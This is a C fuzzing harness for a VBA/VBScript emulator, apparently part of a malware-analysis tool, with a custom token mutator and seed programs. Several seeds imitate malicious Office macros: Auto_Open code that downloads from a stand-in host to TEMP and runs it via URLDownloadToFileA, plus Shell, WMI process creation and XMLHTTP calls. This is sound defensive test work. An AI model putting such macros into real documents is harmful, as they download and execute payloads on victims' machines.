/* Programs of VBA and VBScript: parsed and run under small budgets. The first byte chooses the language and code page. The
 * mutator works on tokens and lines, so that most inputs are programs. */
#include <stdlib.h>

#include "emulate/vba/vba.h"
#include "fuzz.h"

static void must(bool ok)
{
    if (!ok) abort();
}

typedef struct counter {
    size_t len; /* of the text */
    unsigned effects;
} counter;

static void take_effect(void *self, sk_effect_op op, sk_place place, const sk_arg *args, size_t count)
{
    counter *c = self;
    must(op < SK_OP_COUNT && place.artifact == 5 && place.off <= c->len && place.len <= c->len);
    for (size_t i = 0; i < count; i++) {
        must(args[i].name.len > 0);
    }
    c->effects++;
}

static void take_child(void *self, sk_place place, const char *name, uint16_t kind, sk_bytes bytes)
{
    (void)self, (void)place, (void)bytes;
    must(name && kind <= SK_KIND_NONE);
}

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
    static const uint16_t codepages[] = {65001, 1252, 932, 1251};
    sk_bytes all = sk_bytes_of(data, size), text = sk_from(all, 1);
    int mode = size ? sk_at(all, 0) : 0;
    sk_arena *a = sk_arena_new(48u << 20);
    sk_budget *b = a ? SK_NEW(a, sk_budget) : NULL;
    must(b != NULL);
    b->limits = sk_limits_default();
    b->limits.value[SK_LIMIT_EMULATE_STEPS] = 30000;
    b->limits.value[SK_LIMIT_EMULATE_STRING] = 1u << 18;
    b->limits.value[SK_LIMIT_EMULATE_STRINGS] = 4u << 20;
    b->limits.value[SK_LIMIT_EMULATE_OBJECTS] = 3000;
    b->limits.value[SK_LIMIT_EMULATE_FILES] = 1u << 20;
    b->limits.value[SK_LIMIT_EMULATE_PATTERN] = 100000;
    counter c = {.len = text.len};
    sk_world_sink sink = {.self = &c, .effect = take_effect, .child = take_child};
    sk_world *w = sk_world_new(a, b, &sink, NULL);
    sk_vba_result r;
    if (w) {
        sk_vba_run_text(w, text, codepages[(mode >> 1) & 3], mode & 1, 5, &r);
        must(r.line_off <= text.len && r.lost_off <= text.len);
        must(b->used[SK_LIMIT_EMULATE_STEPS] <= b->limits.value[SK_LIMIT_EMULATE_STEPS]);
    }
    sk_arena_free(a);
    return 0;
}

/* ---- tokens ---- */

static const char *const pieces[] = {
    "Sub AutoOpen()\n", "End Sub\n", "Function f(a, Optional b = 2)\n", "End Function\n", "If ", " Then\n", "Else\n", "ElseIf x Then\n", "End If\n",
    "For i = 1 To 3\n", "For Each e In ", "Next\n", "Do\n", "Loop\n", "Loop While ", "While ", "Wend\n", "With ", "End With\n", "Select Case ",
    "Case 1 To 2\n", "Case Else\n", "End Select\n", "GoTo a\n", "a:\n", "GoSub a\n", "Return\n", "On Error Resume Next\n", "On Error GoTo a\n",
    "Resume Next\n", "Exit Sub\n", "Exit For\n", "Set o = ", "x = ", "Call f(", "ReDim Preserve x(", "Erase x\n", "Mid(s, 1, 2) = ", "Dim x(3) As Long\n",
    "Dim c As New Collection\n", "Static n\n", "Const k = ", "Type t\n", "End Type\n", "Enum e\n", "End Enum\n", "Property Get p()\n", "End Property\n",
    "Open \"f\" For Output As #1\n", "Print #1, ", "Close\n", "x", "y", "s", "o", "i", "f(", ")", "(", ", ", " & ", " + ", " * ", " / ", " ^ ", " Mod ",
    " = ", " < ", " And ", "Not ", "-", ".", "!", ":", "\n", " _\n", "1", "0", "65536", "&HFF", "1.5", "\"a\"", "\"\"", "#1/2/2003#", "Nothing",
    "Null", "Empty", "True", "New ", "Array(", "Split(", "Chr(", "Replace(", "Mid(", "Format(", "CreateObject(\"Scripting.Dictionary\")",
    "CreateObject(\"WScript.Shell\")", "GetObject(\"winmgmts:\")", "Application.", "ActiveDocument.", "Err.Raise 5\n", "Execute ", "Eval(", "Shell ",
    "MsgBox ", "String(9, ", "Rnd", "TypeOf ", " Is ", " Like ", "[A1]", "VBA.", "Attribute VB_Name = \"M\"\n", "Class C\n", "End Class\n", "StrConv(",
    "Join(", "UBound(", "CallByName(", "Application.Run ", "#If 1 Then\n", "#End If\n", "Line Input #1, ", "Get #1, , ", "Put #1, , ",
};

size_t LLVMFuzzerCustomMutator(uint8_t *data, size_t size, size_t max_size, unsigned int seed);
size_t LLVMFuzzerMutate(uint8_t *data, size_t size, size_t max_size);

static uint32_t next_random(uint32_t *state)
{
    *state = *state * 1664525u + 1013904223u;
    return *state >> 8;
}

/* Puts a piece at a place between two tokens, over cut bytes. */
static size_t put_piece(uint8_t *data, size_t size, size_t max_size, size_t at, size_t cut, sk_bytes piece)
{
    if (cut > size - at) cut = size - at;
    if (size - cut + piece.len > max_size) return size;
    size_t tail = size - at - cut;
    if (piece.len > cut) {
        for (size_t i = tail; i > 0; i--) {
            data[at + piece.len + i - 1] = data[at + cut + i - 1];
        }
    } else {
        for (size_t i = 0; i < tail; i++) {
            data[at + piece.len + i] = data[at + cut + i];
        }
    }
    for (size_t i = 0; i < piece.len; i++) {
        data[at + i] = piece.p[i];
    }
    return size - cut + piece.len;
}

static size_t token_start(const uint8_t *data, size_t size, size_t at)
{
    while (at > 1 && at < size && sk_is_alnum(data[at]) && sk_is_alnum(data[at - 1])) {
        at--;
    }
    return at;
}

size_t LLVMFuzzerCustomMutator(uint8_t *data, size_t size, size_t max_size, unsigned int seed)
{
    uint32_t state = seed;
    if (size < 2 || next_random(&state) % 4 == 0) {
#ifdef FUZZING_BUILD_MODE_UNSAFE_FOR_PRODUCTION
        return LLVMFuzzerMutate(data, size, max_size);
#else
        return size;
#endif
    }
    for (uint32_t n = next_random(&state) % 4 + 1; n > 0; n--) {
        size_t at = token_start(data, size, 1 + next_random(&state) % (size - 1)), end = at;
        while (end < size && sk_is_alnum(data[end])) {
            end++;
        }
        size_t cut = next_random(&state) % 3 == 0 ? (end > at ? end - at : 1) : 0;
        sk_bytes piece = sk_bytes_str(pieces[next_random(&state) % (sizeof pieces / sizeof *pieces)]);
        size = put_piece(data, size, max_size, at, cut, piece);
    }
    return size;
}

void sk_fuzz_seeds(void (*take)(void *self, sk_bytes seed), void *self)
{
    static const char *const seeds[] = {
        "\2Sub AutoOpen()\nOn Error Resume Next\nFor i = 1 To 3: s = s & Chr(64 + i): Next\nShell s & \".invalid\", 0\nEnd Sub\n",
        "\3x = 1\nFunction f(a)\nf = a * 2\nEnd Function\nExecute \"y = f(4)\"\nMsgBox Eval(\"y + x\")\nClass C\nPublic v\nEnd Class\nSet o = New C\no.v = 1\n",
        "\2Type T\nn As Long\na(2) As String\nEnd Type\nEnum E\nP\nQ = 4\nEnd Enum\nSub AutoOpen()\nDim t1 As T\nt1.a(1) = \"x\"\nWith t1\n.n = Q\nEnd With\nSelect Case t1.n\n"
        "Case 1 To 3\nCase Is > 3: MsgBox t1.a(1)\nEnd Select\nReDim z(4)\nMid(s, 1) = \"a\"\nEnd Sub\n",
        "\2Private Declare Function d Lib \"urlmon\" Alias \"URLDownloadToFileA\" (ByVal a, ByVal b, ByVal c, ByVal d, ByVal e) As Long\nSub Auto_Open()\n"
        "If d(0, \"http://a.example/\", Environ(\"TEMP\") & \"\\x\", 0, 0) = 0 Then Shell Environ(\"TEMP\") & \"\\x\"\nEnd Sub\n",
        "\2Sub Document_Open()\nOn Error GoTo h\nOpen \"C:\\a\" For Output As #1\nPrint #1, \"a\"; 1,\nClose\nOpen \"C:\\a\" For Input As #1\nDo Until EOF(1)\nLine Input #1, l\nLoop\n"
        "GoSub g\nExit Sub\ng: Return\nh: Resume Next\nEnd Sub\n",
        "\2Sub AutoOpen()\nIf ActiveDocument.Strange Then\nExit Sub\nElse\nGoTo e\nEnd If\nDo While Application.x\nLoop\nSet p = GetObject(\"winmgmts:Win32_Process\")\n"
        "p.Create \"t.invalid\", Null, Null, q\ne:\nWith CreateObject(\"MSXML2.XMLHTTP\")\n.Open \"GET\", \"http://b.example\", False\n.send\nEnd With\nEnd Sub\n",
    };
    for (size_t i = 0; i < sizeof seeds / sizeof *seeds; i++) {
        take(self, sk_bytes_str(seeds[i]));
    }
}
